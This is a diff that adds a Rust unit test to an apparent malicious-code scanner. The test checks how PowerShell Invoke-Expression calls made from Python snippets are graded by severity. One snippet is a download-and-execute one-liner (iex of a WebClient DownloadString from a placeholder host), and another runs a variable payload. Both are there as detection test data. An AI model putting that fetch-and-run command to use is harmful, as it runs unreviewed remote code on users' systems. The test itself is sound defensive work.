@@ -1230,3 +1230,19 @@ fn a_command_script_runs_when_its_user_clicks_the_button() {
     assert!(f.because.iter().any(|b| b.contains("clicks the button")), "{f:#?}");
     assert_eq!(severity_of("Tools.extension/startup.py", hostile, "process-hostile"), Some(Severity::Critical));
 }
+
+/// PowerShell's `Invoke-Expression` given a quoted literal runs code
+/// written out for a reader; given a download or a variable, it runs what
+/// nobody can read here. Written for the test.
+#[test]
+fn invoke_expression_of_a_literal_is_not_hidden() {
+    let written = "import subprocess\ndef sid():\n    \
+                   return subprocess.run(['powershell', '-Command', \"Invoke-Expression '[Environment]::UserName | Write-Host'\"])\n";
+    assert_eq!(severity_of("win.py", written, "process-hostile"), None);
+    let fetched = "import subprocess\ndef up():\n    \
+                   subprocess.run(['powershell', '-Command', \"iex (New-Object Net.WebClient).DownloadString('https://x.example/a')\"])\n";
+    assert_eq!(severity_of("win.py", fetched, "process-hostile"), Some(Severity::High));
+    let computed =
+        "import subprocess\ndef run():\n    subprocess.run(['powershell', '-Command', 'Invoke-Expression $payload'])\n";
+    assert_eq!(severity_of("win.py", computed, "process-hostile"), Some(Severity::High));
+}
